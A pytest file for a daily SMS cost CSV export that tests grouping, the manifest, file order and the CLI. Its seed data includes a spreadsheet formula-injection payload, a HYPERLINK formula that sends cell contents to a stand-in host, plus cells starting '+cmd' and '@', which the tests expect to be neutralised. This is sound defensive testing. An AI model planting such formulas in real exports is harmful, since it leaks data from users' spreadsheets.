"""The SMS cost export: the day's charged SMS per customer, flow and purpose from the cost
ledger, as a CSV file and a manifest; an empty day; a day not over; the CLI."""

from __future__ import annotations

import asyncio
import hashlib
import json
import stat
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from typer.testing import CliRunner

from operator_data.cli.main import app
from operator_data.sms_costs.export import DayNotOver, day_bounds, export_day
from operator_data.sms_costs.rows import (
    HEADER,
    CostGroup,
    CostManifest,
    FileOrder,
    csv_text,
    in_file_order,
)
from operator_data.store import Store, schema
from operator_data.store.messages import charge_carried
from operator_data.store.states import Flow
from tests.operator_data.reporting_seed import customer_id, insert_meters, insert_rows
from tests.operator_data.test_sla_cli import config

pytestmark = pytest.mark.timeout(60)

DAY = date(2026, 3, 2)
START, END = day_bounds(DAY)  # 1 Mar 17:00 UTC .. 2 Mar 17:00 UTC
AFTER = END + timedelta(hours=1)
PRICES = {
    Flow.HUB_TO_CUSTOMER: 150,
    Flow.HUB_TO_METER: 200,
    Flow.METER_TO_HUB: 50,
    Flow.METER_TO_CUSTOMER: 150,
    Flow.CUSTOMER_TO_HUB: 100,
}
C0, C1 = customer_id(0), customer_id(1)
HOSTILE = '=HYPERLINK("http://x/?"&A1)'

# (key, customer, direction, flow, kind, state, charged at, price version)
MESSAGES = [
    ("a1", C0, "in", Flow.CUSTOMER_TO_HUB, "BELI", "processed", START + timedelta(hours=1), "v1"),
    ("a2", C0, "in", Flow.CUSTOMER_TO_HUB, "BELI", "processed", START + timedelta(hours=2), "v1"),
    ("a3", C0, "in", Flow.CUSTOMER_TO_HUB, "BELI", "processed", START + timedelta(hours=9), "v2"),
    (
        "a4",
        C0,
        "out",
        Flow.HUB_TO_CUSTOMER,
        "receipt",
        "delivered",
        START + timedelta(hours=1),
        "v1",
    ),
    ("a5", C0, "out", Flow.HUB_TO_CUSTOMER, "receipt", "failed", START + timedelta(hours=3), "v1"),
    (
        "a6",
        C0,
        "out",
        Flow.HUB_TO_CUSTOMER,
        "receipt",
        "delivered",
        END + timedelta(minutes=1),
        "v2",
    ),
    ("b1", C1, "in", Flow.METER_TO_HUB, "READING", "processed", START + timedelta(hours=4), "v1"),
    ("b2", C1, "in", Flow.METER_TO_HUB, "READING", "processed", START + timedelta(hours=5), "v1"),
    (
        "b3",
        C1,
        "out",
        Flow.HUB_TO_METER,
        "TOKEN_DELIVERY",
        "sent",
        START + timedelta(hours=6),
        "v1",
    ),
    ("b4", C1, "in", Flow.CUSTOMER_TO_HUB, HOSTILE, "processed", START + timedelta(hours=7), "v1"),
    ("b5", C1, "in", Flow.METER_TO_HUB, None, "processed", START - timedelta(minutes=1), "v1"),
]

EXPECTED_ROWS = [
    # customer by customer; then flow, purpose, price version in code-point order
    ["2026-03-02", C0, "customer_to_hub", "BELI", "v1", "2", "200"],
    ["2026-03-02", C0, "customer_to_hub", "BELI", "v2", "1", "100"],
    ["2026-03-02", C0, "hub_to_customer", "receipt", "v1", "1", "150"],
    ["2026-03-02", C1, "customer_to_hub", "'" + HOSTILE, "v1", "1", "100"],
    ["2026-03-02", C1, "hub_to_meter", "TOKEN_DELIVERY", "v1", "1", "200"],
    ["2026-03-02", C1, "meter_to_hub", "READING", "v1", "2", "100"],
]


def expected_csv() -> str:
    import csv
    import io

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADER)
    writer.writerows(EXPECTED_ROWS)
    return out.getvalue()


async def seed(store: Store) -> None:
    """Messages of two customers in two-plus flows, charged by the hub's own ledger code."""
    async with store.begin() as conn:
        await insert_meters(conn, range(2), datetime(2026, 1, 1, tzinfo=UTC))
        await insert_rows(
            conn,
            schema.messages,
            [
                {
                    "id": f"01S{key:>23}".replace(" ", "0"),
                    "direction": direction,
                    "flow": flow.value,
                    "customer_id": customer,
                    "kind": kind,
                    "state": state,
                    "state_at": at,
                    "retries": 0,
                    "idempotency_key": key,
                    "created_at": at - timedelta(seconds=5),
                }
                for key, customer, direction, flow, kind, state, at, _ in MESSAGES
            ],
        )
        for key, *_, at, version in MESSAGES:
            await charge_carried(
                conn,
                [f"01S{key:>23}".replace(" ", "0")],
                price_version=version,
                prices_idr=PRICES,
                at=at,
            )


async def test_two_customers_two_flows(store: Store, tmp_path: Path) -> None:
    await seed(store)
    out = tmp_path / "out"
    manifest = await export_day(store, DAY, out, now=AFTER)
    content = (out / "sms-costs-20260302.csv").read_bytes()
    assert content.decode("utf-8") == expected_csv()
    assert manifest == CostManifest(
        schema_version=1,
        report="sms_costs",
        date="2026-03-02",
        period_start="2026-03-01T17:00:00+00:00",
        period_end="2026-03-02T17:00:00+00:00",
        file="sms-costs-20260302.csv",
        columns=list(HEADER),
        record_count=6,
        sms_count=8,
        amount_idr=850,
        sha256=hashlib.sha256(content).hexdigest(),
    )
    written = out / "sms-costs-20260302.manifest.json"
    assert CostManifest.from_json(written.read_text(encoding="utf-8")) == manifest
    assert stat.S_IMODE((out / manifest.file).stat().st_mode) == 0o600
    assert [p.name for p in out.iterdir() if p.name.endswith(".tmp")] == []
    # A finished day does not change: the re-export is the identical file.
    assert await export_day(store, DAY, out, now=AFTER + timedelta(days=3)) == manifest
    assert (out / "sms-costs-20260302.csv").read_bytes() == content


async def test_a_day_with_nothing_is_a_header_and_zero_rows(store: Store, tmp_path: Path) -> None:
    await seed(store)
    quiet = DAY + timedelta(days=5)
    manifest = await export_day(store, quiet, tmp_path, now=AFTER + timedelta(days=10))
    content = (tmp_path / "sms-costs-20260307.csv").read_bytes()
    assert content == (",".join(HEADER) + "\n").encode()
    assert (manifest.record_count, manifest.sms_count, manifest.amount_idr) == (0, 0, 0)
    assert manifest.sha256 == hashlib.sha256(content).hexdigest()
    saved = json.loads((tmp_path / "sms-costs-20260307.manifest.json").read_text())
    assert saved["record_count"] == 0 and saved["columns"] == list(HEADER)


async def test_a_day_not_over_is_refused(store: Store, tmp_path: Path) -> None:
    with pytest.raises(DayNotOver, match=r"2026-03-02 .* not over until 2026-03-03 00:00"):
        await export_day(store, DAY, tmp_path, now=END - timedelta(seconds=1))
    assert not (tmp_path / "sms-costs-20260302.csv").exists()


def group(customer: str, flow: str, purpose: str, version: str = "v1") -> CostGroup:
    return CostGroup(customer, flow, purpose, version, 1, 100)


def test_file_order_holds_one_customer_at_a_time() -> None:
    order = FileOrder()
    assert order.push(group("2", "meter_to_hub", "X")) == []
    assert order.push(group("2", "customer_to_hub", "b")) == []
    # The next customer releases the previous one's groups, sorted.
    released = order.push(group("1", "hub_to_meter", "A"))
    assert [(g.customer_id, g.flow) for g in released] == [
        ("2", "customer_to_hub"),
        ("2", "meter_to_hub"),
    ]
    assert [g.customer_id for g in order.finish()] == ["1"]
    assert order.finish() == []
    # Code-point order within a customer, whatever the database's collation.
    mixed = [group("9", "f", p) for p in ("b", "B", "a", "_", "A")]
    assert [g.purpose for g in in_file_order(mixed)] == ["A", "B", "_", "a", "b"]


def test_cells_are_neutralised_and_bad_groups_refused() -> None:
    text = csv_text(DAY, [group("@1", "f", "-x"), group("2", "f", "+cmd"), group("3", "f", "-5")])
    lines = text.splitlines()
    assert lines[1] == "2026-03-02,'@1,f,'-x,v1,1,100"
    assert lines[2] == "2026-03-02,2,f,'+cmd,v1,1,100"
    # csv_cells' rule: a number is a number to a spreadsheet, not a formula.
    assert lines[3] == "2026-03-02,3,f,-5,v1,1,100"
    with pytest.raises(ValueError, match="bad cost group"):
        csv_text(DAY, [CostGroup("1", "f", "p", "v1", 0, 0)])


def test_cli_export_and_bad_input(tmp_path: Path) -> None:
    cfg = config(tmp_path)

    async def run() -> None:
        async with Store(f"sqlite+aiosqlite:///{tmp_path / 'p.db'}") as store:
            await store.migrate()
            await seed(store)

    asyncio.run(run())
    runner = CliRunner()
    out = tmp_path / "costs"
    done = runner.invoke(
        app, ["sms-costs", "export", "--day", "2026-03-02", "--out", str(out), "--config", str(cfg)]
    )
    assert done.exit_code == 0, done.output
    manifest = json.loads(done.stdout)
    assert (manifest["file"], manifest["record_count"], manifest["amount_idr"]) == (
        "sms-costs-20260302.csv",
        6,
        850,
    )
    assert (out / "sms-costs-20260302.csv").read_text(encoding="utf-8") == expected_csv()
    # Default directory: sms-costs under data_dir; --date is the same option.
    default = runner.invoke(
        app, ["sms-costs", "export", "--date", "2026-03-02", "--config", str(cfg)]
    )
    assert default.exit_code == 0, default.output
    assert (tmp_path / "data" / "sms-costs" / "sms-costs-20260302.manifest.json").exists()
    future = runner.invoke(
        app, ["sms-costs", "export", "--date", "2999-01-01", "--config", str(cfg)]
    )
    assert future.exit_code == 2 and "not over" in future.stderr
    bad = runner.invoke(app, ["sms-costs", "export", "--date", "2-3-2026", "--config", str(cfg)])
    assert bad.exit_code == 2 and "YYYY-MM-DD" in bad.stderr
    (tmp_path / "file").write_text("x")
    not_dir = runner.invoke(
        app,
        [
            "sms-costs",
            "export",
            "--date",
            "2026-03-02",
            "--out",
            str(tmp_path / "file"),
            "--config",
            str(cfg),
        ],
    )
    assert not_dir.exit_code == 2 and "not a directory" in not_dir.stderr
